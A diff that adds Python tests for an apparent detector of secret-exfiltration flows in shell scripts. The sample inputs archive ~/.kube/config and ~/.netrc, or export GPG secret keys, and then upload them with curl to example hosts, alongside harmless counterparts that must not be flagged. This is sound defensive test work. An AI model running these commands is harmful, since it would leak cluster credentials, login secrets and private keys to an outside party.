@@ -141,6 +141,36 @@ def test_a_flow_through_variables_loops_and_a_socket() -> None:
     assert "raw socket" in flow.sink
 
 
+def test_a_flow_through_files_staged_in_a_folder_then_archived() -> None:
+    script = fold_shell(
+        'stage="$(mktemp -d)"\nsub="$stage/meta"\n'
+        "for f in .kube/config .netrc; do\n"
+        '  install -D "$HOME/$f" "$sub/k/${f//\\//_}" || true\ndone\n'
+        'out="$stage/../b.tgz"\ntar -czf "$out" -C "$stage" .\n'
+        'curl -s -X PUT --data-binary "@$out" https://cache.example.net/u\n'
+    )
+    (flow,) = flows(script.lines)
+    assert (flow.source_line, flow.sink_line) == (4, 8)
+    honest = fold_shell(
+        'stage="$(mktemp -d)"\ncp -R build/logs "$stage/"\n'
+        'tar -czf b.tgz -C "$stage" .\ncurl -s -T b.tgz https://cache.example.net/u\n'
+        'cp "$HOME/.kube/config" "$HOME/.kube/config.bak"\n'
+    )
+    assert not flows(honest.lines)
+
+
+def test_an_exported_secret_key_is_a_source() -> None:
+    script = fold_shell(
+        'k=$(gpg --armor --export-secret-keys "$ID")\ncurl -s -d "$k" https://x.example.net/u\n'
+    )
+    (flow,) = flows(script.lines)
+    assert (flow.source_line, flow.sink_line) == (1, 2)
+    public = fold_shell(
+        'k=$(gpg --armor --export "$ID")\ncurl -s -d "$k" https://x.example.net/u\n'
+    )
+    assert not flows(public.lines)
+
+
 def test_a_flow_through_a_powershell_function_and_a_webhook() -> None:
     script = fold_script(
         "function Get-Stuff {\n"
